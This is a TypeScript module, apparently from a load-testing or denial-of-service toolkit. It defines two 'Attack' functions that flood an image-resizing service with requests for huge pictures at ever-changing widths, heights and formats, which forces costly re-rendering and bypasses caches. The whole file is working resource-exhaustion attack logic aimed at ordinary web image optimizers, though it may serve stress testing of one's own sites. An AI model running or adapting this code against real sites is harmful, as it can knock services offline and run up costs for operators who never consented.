import {pickClient, repeat, type Attack, type Target} from '../attack.ts'

const FORMATS = ['webp', 'avif', 'png', 'jpg']

const pick = (paths: string[], n: number) => paths[n % paths.length] ?? '/'

/** Pictures of an SVG filter, of thousands of frames, of a hundred million pixels, in every size and format. */
export const expensivePictures: Attack = (target, signal) =>
  repeat(6, signal, (n) =>
    pickClient(target, n).send(
      `${pick(target.expensivePictures, n)}?w=${200 + (n % 1500)}&fm=${pick(FORMATS, n)}`,
    ),
  )

/** Each width of each picture of the site, in each format. */
export const everyWidth: Attack = (target, signal) => repeat(10, signal, (n) => unlisted(target, n))

function unlisted(target: Target, n: number): Promise<number> {
  const format = pick(FORMATS, n)
  const path = pick(target.pictures, n)
  return pickClient(target, n).send(
    `${path}?w=${301 + ((n * 7) % 8000)}&h=${301 + n}&fit=max&fm=${format}`,
  )
}
